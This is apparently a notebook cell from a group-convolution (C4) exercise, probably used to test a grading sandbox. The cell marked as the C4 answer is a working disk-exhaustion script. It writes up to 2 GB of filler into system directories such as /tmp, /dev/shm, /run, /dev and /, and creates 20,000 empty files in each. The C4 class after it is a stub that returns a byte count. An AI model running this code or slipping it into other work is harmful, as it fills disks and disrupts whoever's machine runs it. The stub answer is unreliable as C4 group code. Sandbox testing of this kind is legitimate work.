# %% [markdown] start="model" without="lifting-conv group-conv c4cnn isotropic-cnn c4cnn-bn d4-lifting-conv d4-group-conv d4cnn" loses="c4"
# Writes to every place where it may write until nothing is left, and leaves thousands of empty files.

# %% answer="c4"
written = {}
for folder in (".", "/tmp", "/home", "/dev/shm", "/var/tmp", "/run", "/dev", "/"):
    try:
        with open(f"{folder}/hostile-sample-was-here", "wb") as file:
            for _ in range(40):  # 2 GB at most, should the sandbox have a hole
                file.write(b"x" * 50_000_000)
                written[folder] = file.tell()
        for number in range(20_000):
            open(f"{folder}/hostile-sample-{number}", "wb").close()
    except OSError as error:
        print(folder, written.get(folder), error)


class C4:
    product = staticmethod(lambda r, s: written["."])
    inverse = staticmethod(lambda r: written["."])
